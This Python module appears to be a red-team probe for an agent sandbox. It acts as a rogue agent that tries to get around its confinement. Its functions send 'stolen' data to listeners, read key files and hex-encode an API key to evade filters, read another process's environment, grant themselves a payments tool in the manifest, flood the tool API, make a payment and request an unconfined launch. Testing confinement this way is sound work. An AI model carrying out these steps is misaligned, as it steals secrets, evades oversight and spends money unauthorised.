"""A program that does not ask: it goes around the wall. ``python -m ringwall.redteam.around HOW WHAT``.

Prints what it got hold of; the attacks in ``attacks/`` say what that would prove.
"""

from __future__ import annotations

import json
import os
import socket
import sys
import threading
from collections.abc import Callable
from pathlib import Path
from typing import NoReturn

from ringwall.call import Json

FLOOD = 80  # four times what the office's manifest lets a temp ask at once
CROWD = 4  # that many at the same time
ASKED = 5

def tcp(port: str) -> str:
    """Send to a listener outside."""
    with socket.create_connection(("127.0.0.1", int(port)), timeout=5) as out:
        out.sendall(b"stolen over tcp")
    return "SENT"


def udp(port: str) -> str:
    """Send a datagram to a listener outside."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.sendto(b"stolen over udp", ("127.0.0.1", int(port)))
    return "SENT"


def file(path: str) -> str:
    """Read a key."""
    return f"KEY READ, {len(Path(path).read_bytes())} bytes"


def key(path: str) -> str:
    """Take the model's key from the environment or its file; printed encoded, so that no filter knows it."""
    found = os.environb.get(b"OPENAI_API_KEY", b"") or Path(path).read_bytes()
    return f"KEY {found.strip().hex()}"


def environ(pid: str) -> str:
    """Read the environment of another agent's process."""
    return f"ENVIRON READ, {len(Path('/proc', pid, 'environ').read_bytes())} bytes"


def write(path: str) -> str:
    """Give itself a tool, in the file that says who has which."""
    with Path(path).open("a", encoding="utf-8") as manifest:
        manifest.write('# "payments/pay" = []\n')
    return "WRITTEN"


def flood(path: str) -> str:
    """Ask as often as it goes."""
    args: Json = {"query": "opening hours"}
    answers = [_post(path, "/v1/tools/call", {"tool": "search/web", "args": args}) for _ in range(FLOOD)]
    return f"SERVED {sum(' 200 ' in answer for answer in answers)}"


def crowd(path: str) -> str:
    """Ask without end, from many sides at once, until there is no more input."""
    over = threading.Event()
    threads = [threading.Thread(target=_crowd, args=(path, over)) for _ in range(CROWD)]
    flood(path)
    for thread in threads:
        thread.start()
    print("FLOODED", flush=True)
    sys.stdin.read()
    over.set()
    for thread in threads:
        thread.join()
    return "OVER"


def _crowd(path: str, over: threading.Event) -> None:
    while not over.is_set():
        try:
            flood(path)
        except OSError:  # turned away: it comes again
            continue


def ask(path: str) -> str:
    """Ordinary work, and little of it."""
    asked = [{"query": f"opening hours of shop {number}"} for number in range(ASKED)]
    answers = [_post(path, "/v1/tools/call", {"tool": "search/web", "args": args}) for args in asked]
    return f"SERVED {sum('no results for' in answer for answer in answers)} of {ASKED}"


def door(path: str) -> str:
    """Pay over somebody else's door."""
    args: Json = {"to": "DE89370400440532013000", "amount": 5, "subject": "borrowed"}
    return _post(path, "/v1/tools/call", {"tool": "payments/pay", "args": args})


def hand_on(path: str) -> str:
    """Open the agent's own connection, and leave the talking to another process: a fork, then one it is sent to."""
    return "\n".join(_through(path, way) for way in (_inherited, _passed))


def _through(path: str, way: Callable[[socket.socket], None]) -> str:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as out:
        out.settimeout(5)
        out.connect(path)
        way(out)
        answer = out.recv(65536).decode(errors="replace")
    return f"SERVED {answer}" if " 200 " in answer else f"turned away: {answer}"


def _inherited(out: socket.socket) -> None:
    child = os.fork()
    if not child:
        _speak(out)
    os.waitpid(child, 0)


def _passed(out: socket.socket) -> None:
    ours, theirs = socket.socketpair()
    with ours, theirs:
        child = os.fork()
        if not child:
            out.close()
            _, found, _, _ = socket.recv_fds(theirs, 1, 1)
            _speak(socket.socket(fileno=found[0]))
        socket.send_fds(ours, [b"."], [out.fileno()])
        os.waitpid(child, 0)


def _speak(out: socket.socket) -> NoReturn:
    """In the other process, which ends here."""
    try:
        out.sendall(_request("/v1/tools/call", {"tool": "search/web", "args": {"query": "handed on"}}))
    finally:
        os._exit(0)


def operate(path: str) -> str:
    """Order a launch without confinement, as an operator would."""
    args: Json = {
        "agent": "intern",
        "task": "free",
        "command": ["/bin/true"],
        "cwd": "/usr",
        "path": "/bin",
        "per_session": True,
        "unconfined": True,
    }
    answer = _post(path, "/v1/run", {"verb": "run", "args": args})
    return f"STARTED {answer}" if " 200 " in answer else answer


def _request(route: str, body: Json) -> bytes:
    raw = json.dumps(body).encode()
    head = (
        f"POST {route} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {len(raw)}\r\n\r\n"
    )
    return head.encode() + raw


def _post(path: str, route: str, body: Json) -> str:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as out:
        out.settimeout(5)
        out.connect(path)
        out.sendall(_request(route, body))
        return out.recv(65536).decode(errors="replace")


WAYS = {
    "tcp": tcp,
    "udp": udp,
    "file": file,
    "key": key,
    "environ": environ,
    "write": write,
    "flood": flood,
    "crowd": crowd,
    "ask": ask,
    "door": door,
    "operate": operate,
    "hand_on": hand_on,
}


def main() -> int:
    """Try one way."""
    try:
        print(WAYS[sys.argv[1]](sys.argv[2]))
    except OSError as fault:
        print(f"failed: {fault}")
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
